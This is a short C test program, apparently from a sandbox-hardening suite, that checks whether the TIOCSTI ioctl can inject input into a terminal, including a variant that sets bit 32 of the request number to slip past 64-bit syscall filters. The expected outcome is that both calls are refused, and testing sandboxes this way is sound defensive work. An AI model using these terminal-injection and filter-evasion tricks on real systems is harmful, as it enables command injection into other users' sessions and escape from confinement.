/* SPDX-License-Identifier: Apache-2.0 */
/* attack: TIOCSTI types a command into the caller's terminal; bit 32 set slips past 64-bit compares
 * category: privileges
 * inside: both are refused, also on a terminal of its own
 */
#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

int main(void)
{
    int master = posix_openpt(O_RDWR | O_NOCTTY);
    if (master < 0 || grantpt(master) < 0 || unlockpt(master) < 0)
        stopped("a terminal to try it on");
    /* A fresh child can always lead a session. */
    pid_t child = fork();
    if (child < 0)
        stopped("fork");
    if (child == 0) {
        setsid();
        int slave = open(ptsname(master), O_RDWR);
        if (slave < 0 || ioctl(slave, TIOCSCTTY, 0) < 0)
            stopped("a controlling terminal");
        if (syscall(SYS_ioctl, slave, (unsigned long)TIOCSTI, "x") == 0)
            worked("TIOCSTI");
        if (errno == EIO)
            nothing_to_attack("this kernel has TIOCSTI switched off for ordinary users");
        if (syscall(SYS_ioctl, slave, (unsigned long)TIOCSTI | 1UL << 32, "x") == 0)
            worked("TIOCSTI with bit 32 set");
        stopped("TIOCSTI");
    }
    int status;
    waitpid(child, &status, 0);
    return WIFEXITED(status) ? WEXITSTATUS(status) : STOPPED;
}
